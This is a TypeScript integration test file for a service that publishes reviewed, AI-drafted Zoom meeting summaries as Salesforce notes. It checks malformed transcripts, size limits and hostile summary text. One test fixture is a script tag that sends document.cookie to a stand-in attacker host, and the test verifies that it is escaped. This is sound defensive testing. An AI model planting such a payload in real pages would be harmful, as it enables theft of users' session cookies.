import type { ReviewView, SavedDraft } from '../../../middleware/src/contracts/door-api';
import { MAX_SUMMARY_CHARACTERS } from '../../../middleware/src/outbound/recorders/zoom/summary-text';
import { USERNAMES } from '../../local-org/seed';
import type { SimulatedMeeting } from '../../recorders/zoom';
import {
  CONTROL_CHARACTER_SUMMARY,
  EMPTY_TRANSCRIPT,
  hugeTranscript,
  longSummary,
  RIGHT_TO_LEFT_SUMMARY,
  SCRIPT_SUMMARY,
  SIGN_IN_PAGE,
  SILENT_TRANSCRIPT,
} from '../../recorders/zoom/hostile-content';
import { knock } from '../../world/door';
import { everythingCounted } from '../../world/everything';
import { until } from '../../world/until';
import { startWholeWorld } from '../../world/whole-world';
import type { WholeWorld } from '../../world/whole-world';
import {
  approve,
  callOf,
  codeOf,
  open,
  published,
  restAs,
  reviewOf,
  rita,
  ritasMeeting,
  save,
  saved,
  sha256,
  tablesOf,
} from '../review/desk';
import type { Tables } from '../review/desk';

const MIB = 1024 * 1024;
let world: WholeWorld;
let tables: Tables;

beforeAll(async () => {
  world = await startWholeWorld([]);
  tables = await tablesOf(world);
}, 60_000);
afterAll(async () => {
  await tables.close();
  await world.close();
});

/** The messages of one call, each with its end. */
function messagesOf(meeting: SimulatedMeeting): Promise<Record<string, unknown>[]> {
  return tables.rows(
    'SELECT event_type, state, reason FROM countersign.inbox_messages WHERE call_key = $1 ORDER BY event_type',
    [meeting.uuid],
  );
}

const processed = (event_type: string): object => ({ event_type, state: 'processed', reason: null });

async function unreadableButReviewable(transcriptFile: string | Buffer, reason: string): Promise<void> {
  const meeting = ritasMeeting({ transcriptFile });
  const review = await reviewOf(world, meeting);
  await world.idle();
  expect(await messagesOf(meeting)).toEqual([
    processed('recording_ready'),
    processed('summary_ready'),
    { event_type: 'transcript_ready', state: 'failed', reason },
  ]);
  const transcript = await knock(world, rita, 'GET', `/v1/calls/${review.callId}/transcript?from=0`);
  expect(codeOf(transcript)).toEqual({ status: 404, code: 'content_not_ready' });
  expect(await tables.artifacts(review.callId)).toEqual({ ai_draft: 1, working_text: 1 });
  expect((await open(world, rita, review.callId)).body).toMatchObject({
    transcript: { status: 'unreadable', reason, cues: 0 },
  });
  expect((await approve(world, rita, review.callId, await saved(world, review))).status).toBe(202);
  expect(await published(world, review.callId)).toMatchObject({ state: 'published' });
}

describe('a transcript that cannot be read fails with its reason, and the summary is reviewed and approved all the same', () => {
  test.each([
    ["the recorder's sign-in page", SIGN_IN_PAGE, 'transcript_not_webvtt'],
    ['bytes that are no text', Buffer.from([0xff, 0xfe, 0x00, 0x80, 0xc3]), 'transcript_not_webvtt'],
    ['an empty file', EMPTY_TRANSCRIPT, 'transcript_empty'],
    ['WebVTT in which nobody speaks', SILENT_TRANSCRIPT, 'transcript_empty'],
  ])('%s', async (_, file, reason) => {
    await expect(unreadableButReviewable(file, reason)).resolves.toBeUndefined();
  });

  test('20 MB of WebVTT, which take no more memory than the file a few times over', async () => {
    const file = hugeTranscript(20 * MIB);
    const before = process.memoryUsage().rss;
    let most = before;
    const watch = setInterval(() => (most = Math.max(most, process.memoryUsage().rss)), 5);
    try {
      await unreadableButReviewable(file, 'transcript_too_large');
    } finally {
      clearInterval(watch);
    }
    // The simulated Zoom serves the file from this very process and copies it for each request.
    expect(most - before).toBeLessThan(6 * file.byteLength);
  });
});

test('15 MB of WebVTT, just inside the limit, are read in pages to the last word', async () => {
  const review = await reviewOf(world, ritasMeeting({ transcriptFile: hugeTranscript(15 * MIB) }));
  await world.idle();
  const { transcript } = (await open(world, rita, review.callId)).body as ReviewView;
  // 15 MiB in cues of 80 bytes: the sentence, its time line, and the empty line after it.
  expect(transcript).toEqual({ status: 'available', reason: null, cues: Math.ceil((15 * MIB) / 80) });
  const last = await knock(world, rita, 'GET', `/v1/calls/${review.callId}/transcript?from=${transcript.cues - 1}`);
  expect(last.body).toMatchObject({
    cues: [{ speaker: 'Rita Sandoval', text: 'the same sentence again and again' }],
    nextFrom: null,
  });
}, 30_000);

describe('a summary that could do harm', () => {
  async function publishedBody(callId: string): Promise<string> {
    const { noteId } = await published(world, callId);
    return (await restAs(world, USERNAMES.rita, 'GET', `/sobjects/ContentNote/${noteId}/Content`)).text;
  }

  async function approveAsIs(review: ReviewView): Promise<void> {
    expect((await approve(world, rita, review.callId, await saved(world, review))).status).toBe(202);
  }

  test('script tags stay words: in the draft, and escaped in the note', async () => {
    const review = await reviewOf(world, ritasMeeting({ summary: SCRIPT_SUMMARY }));
    expect(review.aiText).toContain('<script>fetch("https://evil.example/" + document.cookie)</script>');
    await approveAsIs(review);
    const body = await publishedBody(review.callId);
    expect(body).toContain('&lt;script&gt;fetch(&quot;https://evil.example/&quot; + document.cookie)&lt;/script&gt;');
    expect(body.replace(/<\/?p>|<br>/g, '')).not.toMatch(/[<>]/);
  });

  test('control characters and half characters are gone before anything is stored; the words stay', async () => {
    const review = await reviewOf(world, ritasMeeting({ summary: CONTROL_CHARACTER_SUMMARY }));
    // U+0085 is a line end; what Unicode cannot encode becomes U+FFFD.
    expect(review.aiText).toBe('First point. Second[31m point.\nThird point \ufffd.');
    await approveAsIs(review);
    expect(await publishedBody(review.callId)).toContain(
      '<p>First point. Second[31m point.</p><p>Third point \ufffd.</p>',
    );
  });

  test('right-to-left text keeps its order and its marks', async () => {
    const review = await reviewOf(world, ritasMeeting({ summary: RIGHT_TO_LEFT_SUMMARY }));
    expect(review.aiText).toBe(RIGHT_TO_LEFT_SUMMARY.overview);
    await approveAsIs(review);
    expect(await publishedBody(review.callId)).toContain(`<p>${RIGHT_TO_LEFT_SUMMARY.overview}</p>`);
  });
});

describe('a long summary', () => {
  test('of 131,000 characters is kept whole; an approval is refused as too long and changes nothing', async () => {
    const summary = longSummary(131_000);
    const review = await reviewOf(world, ritasMeeting({ summary }));
    expect(review.aiText).toBe(summary.overview);
    expect(review.text).toHaveLength(131_000);
    const shown = await saved(world, review);
    expect(shown.blockers).toContainEqual({ code: 'note_too_long', field: null });
    expect(shown.note.limit).toBe(131_072);
    await world.idle();
    const before = await everythingCounted(world);
    expect(codeOf(await approve(world, rita, review.callId, shown))).toEqual({ status: 422, code: 'note_too_long' });
    expect(await everythingCounted(world)).toEqual(before);
  });

  test('I1: the longest note that fits is published whole; with one character more it is refused', async () => {
    const review = await reviewOf(world, ritasMeeting({ summary: longSummary(131_000) }));
    const first = await saved(world, review);
    const fitting = review.text.slice(0, review.text.length - (first.note.length - first.note.limit) - 1) + '.';
    const longer = { revision: first.revision, text: `${fitting}.`, parts: (await standing(review)).parts };
    const over = (await save(world, rita, review.callId, longer)).body as SavedDraft;
    expect(over.note.length).toBe(131_073);
    expect(codeOf(await approve(world, rita, review.callId, over))).toEqual({ status: 422, code: 'note_too_long' });

    const draft = { ...longer, revision: over.revision, text: fitting };
    const shown = (await save(world, rita, review.callId, draft)).body as SavedDraft;
    expect(shown).toMatchObject({ blockers: [], note: { length: 131_072 } });
    expect((await approve(world, rita, review.callId, shown)).status).toBe(202);
    const { noteId } = await published(world, review.callId);
    const body = await restAs(world, USERNAMES.rita, 'GET', `/sobjects/ContentNote/${noteId}/Content`);
    expect(body.text).toContain(`<p>${fitting}</p>`);
    expect(body.text.length).toBeLessThanOrEqual(131_072);
    const [copy] = await world.org.asAdmin.query(
      `SELECT Approved_Text__c FROM Call_Summary__c WHERE Call_Recording__c = '${review.callId}'`,
    );
    expect(sha256(String(copy?.['Approved_Text__c']).replace(/\r\n/g, '\n'))).toBe(shown.note.hash);
  });

  async function standing(review: ReviewView): Promise<ReviewView> {
    return (await open(world, rita, review.callId)).body as ReviewView;
  }

  test('of more characters than are taken fails with its reason, drafts nothing and leaves the transcript', async () => {
    const meeting = ritasMeeting({ summary: longSummary(MAX_SUMMARY_CHARACTERS + 1) });
    const callId = await callOf(world, meeting);
    await until('the summary has failed', async () => (await messagesOf(meeting)).some((m) => m['state'] === 'failed'));
    await world.idle();
    expect(await messagesOf(meeting)).toEqual([
      processed('recording_ready'),
      { event_type: 'summary_ready', state: 'failed', reason: 'summary_too_large' },
      processed('transcript_ready'),
    ]);
    expect(await tables.artifacts(callId)).toEqual({ transcript: 1 });
    expect(codeOf(await open(world, rita, callId))).toEqual({ status: 404, code: 'content_not_ready' });
  });

  test('of exactly as many as are taken is kept whole', async () => {
    const summary = longSummary(MAX_SUMMARY_CHARACTERS);
    const review = await reviewOf(world, ritasMeeting({ summary }));
    expect(review.aiText).toBe(summary.overview);
  });
});

test('a summary without a word in it fails with its reason', async () => {
  const summary = { shape: 'sections' as const, overview: ' \u0000\n', details: [], nextSteps: [''] };
  const meeting = ritasMeeting({ summary });
  await callOf(world, meeting);
  await until('the summary has failed', async () => (await messagesOf(meeting)).some((m) => m['state'] === 'failed'));
  expect(await messagesOf(meeting)).toContainEqual({
    event_type: 'summary_ready',
    state: 'failed',
    reason: 'summary_empty',
  });
});
